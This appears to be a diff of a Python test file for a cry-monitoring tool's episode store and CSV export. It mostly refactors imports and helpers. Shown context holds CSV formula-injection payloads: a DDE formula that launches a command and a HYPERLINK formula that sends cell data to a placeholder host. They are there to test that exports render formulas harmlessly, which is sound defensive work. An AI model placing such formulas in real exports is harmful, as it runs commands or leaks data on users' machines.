@@ -15,9 +15,9 @@ from monitor.bus import Envelope
 from monitor.classify import Head
 from monitor.config import settings_from_dict
 from monitor.messages import EpisodeClosed, EpisodeOpened, EpisodeSummary
-from monitor.store import StoreWriter, open_engine
+from monitor.store import StoreWriter, annotate, list_episodes, open_engine
 from tests.conftest import PROJECT_ROOT, cry_path, crywatch_command, pick, run_crywatch
-from tests.test_store import T0, _at
+from tests.test_store import T0, _envelope
 
 
 def _one_line_error(result, *needles: str) -> None:
@@ -128,9 +128,9 @@ def test_episodes_shows_each_spells_length_and_crying_time_and_exports_them(tmp_
     before_spells = replace(spell, number=2, start_s=600.0, end_s=640.0, last_s=640.0, crying_s=0.0, bouts=0,
                             voiced_s=0.0, high_pitch_s=0.0, f0_median_hz=None)
     going = replace(spell, number=3, start_s=4000.0, end_s=None, last_s=7720.0, crying_s=3000.0)
-    writer.write([Envelope("bed-7", _at(0), e) for e in (EpisodeOpened(0, replace(spell, end_s=None)), EpisodeClosed(0, spell),
-                                                         EpisodeOpened(0, replace(before_spells, end_s=None)),
-                                                         EpisodeClosed(0, before_spells), EpisodeOpened(0, going))])
+    writer.write([_envelope(e) for e in (EpisodeOpened(0, replace(spell, end_s=None)), EpisodeClosed(0, spell),
+                                         EpisodeOpened(0, replace(before_spells, end_s=None)),
+                                         EpisodeClosed(0, before_spells), EpisodeOpened(0, going))])
     shown = run_crywatch("episodes", "--db", db)
     assert shown.returncode == 0, shown.stderr
     lines = shown.stdout.splitlines()
@@ -182,10 +182,6 @@ FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://example.invalid/?leak="&A1
 def test_the_csv_export_shows_formulas_as_text_and_no_spreadsheet_runs_them(tmp_path):
     """The fault: `crywatch episodes --format csv` wrote a staff note `=cmd|' /C calc'!A0` or `=HYPERLINK(...)`,
     and bed names, verbatim: a spreadsheet opening the export runs them."""
-    from monitor.bus import Envelope
-    from monitor.messages import EpisodeClosed, EpisodeSummary
-    from monitor.store import StoreWriter, annotate, list_episodes, open_engine
-
     db = f"sqlite:///{tmp_path / 'log.db'}"
     bed = "=HYPERLINK(\"http://example.invalid\",\"bed-3\")"
     settings_from_dict({"service": {"bed": bed}})  # the config accepts it
